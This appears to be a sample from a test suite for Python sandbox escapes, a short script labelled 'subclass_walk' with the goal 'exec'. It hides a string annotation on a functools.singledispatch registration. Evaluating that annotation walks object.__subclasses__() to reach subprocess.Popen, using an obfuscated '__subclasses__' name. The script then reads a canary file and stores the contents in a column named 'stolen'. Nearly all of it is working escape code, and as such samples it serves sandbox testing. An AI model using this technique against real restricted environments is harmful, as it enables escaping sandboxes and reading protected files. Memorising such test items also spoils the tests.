# class: subclass_walk
# technique: functools.singledispatch().register evaluates the new function's annotation: the annotation walks object.__subclasses__() to subprocess.Popen
# goal: exec
import functools

import numpy as np
import pandas as pd

d = "_" * 2
sub = d + "subclasses" + d
found = []


@functools.singledispatch
def render(value):
    return value


@render.register
def render_int(value: "[found.extend(c for c in getattr(object, sub)() if 'Popen' in str(c)), int][-1]"):
    return value


popen = found[0]
out = popen(["cat", "{{CANARY_FILE}}"], stdout=-1).communicate()[0]
df = pd.DataFrame({"stolen": [out.decode()]})
